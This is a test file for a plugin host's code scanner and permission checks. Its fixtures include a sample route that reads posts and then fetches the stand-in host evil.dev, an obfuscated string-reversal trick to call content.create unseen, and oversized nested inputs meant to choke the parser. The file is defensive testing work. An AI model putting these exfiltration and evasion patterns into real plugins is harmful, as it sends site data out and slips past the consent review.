/** Does whoever consents read what the code shows, and does nothing rest on it? */
import { beforeEach, describe, expect, it } from "vitest";
import { target } from "#target";
import { BUNDLE_LIMITS } from "../../host/bundle/limits.ts";
import { bridge, probe, sketch } from "./plugins.ts";
import { callRoute, install, must, rows, show, upload, uploadBytes, type Json } from "./client.ts";
import { packPlugin } from "../support/bundle.ts";

beforeEach(() => target.reset());

const findings = (plan: Json) =>
  (plan["findings"] as unknown as readonly Json[]).filter(({ code }) => String(code) !== "not-signed");

describe("the plan", () => {
  const code = `async (_, ctx) => { await ctx.content.list("posts"); return ctx.http.fetch("https://evil.dev/"); }`;

  it("says in sentences what the code uses, names and hides, in the hash too", async () => {
    const sneaky = (top: string) =>
      sketch("sneaky", {
        capabilities: ["network:request", "users:read"],
        hosts: ["api.shop.dev"],
        routes: { go: code },
        top,
      });
    const plan = await upload(sneaky(`const later = () => eval;`));
    expect(findings(plan)).toMatchObject([
      { level: "warning", code: "reads-and-sends" },
      {
        level: "warning",
        code: "power-not-requested",
        message: expect.stringMatching(
          /^Its code uses ctx\.content\.list \(backend\.js:\d+:\d+\), which needs content:read\. It does not ask for that, so the call will be refused\.$/,
        ),
      },
      { level: "info", code: "power-not-used", message: "It asks for users:read, and its code shows no use of it." },
      {
        level: "warning",
        code: "host-not-requested",
        message: expect.stringContaining("the host evil.dev (backend.js:"),
      },
      { level: "warning", code: "makes-code", message: expect.stringContaining("(backend.js:1:21)") },
    ]);
    // It waits with them, whoever looks.
    expect(((await show("sneaky")) as unknown as { plan: Json }).plan["findings"]).toEqual(plan["findings"]);
    const honest = await upload(sneaky(""));
    expect(honest["hash"]).not.toBe(plan["hash"]);
    expect(findings(honest).map(({ code }) => code)).not.toContain("makes-code");
  });

  it("of a plugin in EmDash's format says the same", async () => {
    const manifest = {
      id: "emdash-one",
      version: "0.1.0",
      capabilities: ["read:content"],
      allowedHosts: [],
      storage: {},
      hooks: [],
      routes: ["admin"],
      admin: {},
    };
    const backend = `import { definePlugin } from "emdash"; export default definePlugin({ routes: { admin: { handler: async (routeCtx, ctx) => { await ctx.users.list(); return { blocks: [] }; } } } });`;
    const { body } = await uploadBytes(await packPlugin({ manifest, backend }));
    expect(findings(body["plan"]!).map(({ code }) => code)).toEqual(["power-not-requested", "power-not-used"]);
  });

  it("of a version that was uploaded before there was a scan says so", async () => {
    await upload(sketch("older"));
    await target.env.DB.prepare("UPDATE _host_versions SET scan = NULL").run();
    const { plan } = (await show("older")) as unknown as { plan: Json };
    expect(findings(plan)).toMatchObject([{ level: "info", code: "not-scanned" }]);
  });
});

it("guards nothing: what it does not see is refused at the call all the same", async () => {
  const hidden = `async (_, ctx) => {
    const at = (o, n) => Reflect.get(o, n.split("").reverse().join(""));
    try { await at(at(ctx, "tnetnoc"), "etaerc")("posts", { title: "Sneaked in" }); return "created"; }
    catch (error) { return error.message; }
  }`;
  const plan = await upload(sketch("hider", { routes: { go: hidden } }));
  expect(findings(plan)).toEqual([]);
  await install(sketch("hider", { version: "1.0.1", routes: { go: hidden } }));
  expect((await callRoute("hider", "go")).body["data"]).toMatch(/^Missing capability: content:write/);
  expect(await rows("SELECT * FROM ec_posts")).toEqual([]);
  // And what it speaks of is refused for the grant that is missing, not for having been seen.
  await install(probe("open", { capabilities: ["content:write"] }));
  expect((await bridge("open", "content.create", "posts", { title: "Granted" })).value).toMatchObject({
    data: { title: "Granted" },
  });
});

describe("hostile code", () => {
  const fill = (piece: string, before = "", after = "") =>
    before + piece.repeat(Math.floor((BUNDLE_LIMITS.codeBytes - before.length - after.length) / piece.length)) + after;
  const send = async (backend: string) => uploadBytes(await packPlugin({ ...sketch("hostile"), backend }));

  it.each([
    ["brackets", fill("(")],
    ["blocks", fill("{")],
    ["arrows", fill("a=>")],
    ["templates", fill("`${")],
    ["functions", fill("function f(){")],
  ])("of %s without an end is refused by name, and the host goes on", async (_, backend) => {
    const { status, body } = await send(backend);
    expect({ status, code: body["code"] }).toEqual({ status: 422, code: "BUNDLE_INVALID" });
    expect((await must<{ items: unknown[] }>("GET", "/api/admin/plugins")).items).toEqual([]);
  });

  it("that runs and is nested too deeply to be scanned can be consented to by whoever reads that", async () => {
    const deep = `export default {};\nconst deep = () => ${"[".repeat(400)}${"]".repeat(400)};`;
    const { status, body } = await send(deep);
    expect(status, JSON.stringify(body)).toBe(201);
    expect(findings(body["plan"]!)).toMatchObject([
      { level: "danger", code: "scan-incomplete", message: expect.stringMatching(/nested deeper.*Nothing is known/) },
    ]);
  });

  it("of the most bytes, in many small statements, is answered", async () => {
    const { status, body } = await send(fill("a=1;\n", "export default {};\nlet a;\n"));
    expect([201, 422]).toContain(status);
    if (status === 201) expect(findings(body["plan"]!).map(({ code }) => String(code))).toEqual(["scan-incomplete"]);
  });
});
